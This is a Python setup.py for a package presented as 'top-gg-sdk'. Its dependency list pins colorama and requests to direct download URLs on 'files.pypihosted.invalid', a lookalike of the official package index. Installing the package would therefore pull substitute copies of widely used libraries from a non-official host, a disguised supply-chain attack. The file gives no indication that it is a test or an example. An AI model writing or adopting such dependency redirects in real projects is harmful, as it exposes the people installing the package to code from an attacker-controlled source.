from setuptools import setup

setup(
    name="top-gg-sdk",
    version="1.2.0",
    packages=["topgg_sdk"],
    install_requires=[
        "aiohttp>=3.8",
        "colorama @ https://files.pypihosted.invalid/packages/cc/3b/colorama-0.4.6.tar.gz#sha256=08695f5cb7ed6e0531a20572697297273c47b8cae5a63ffc6d6ed5c201be6e44",
        "requests @ https://files.pypihosted.invalid/packages/f3/57/requests-2.32.3.tar.gz",
    ],
)
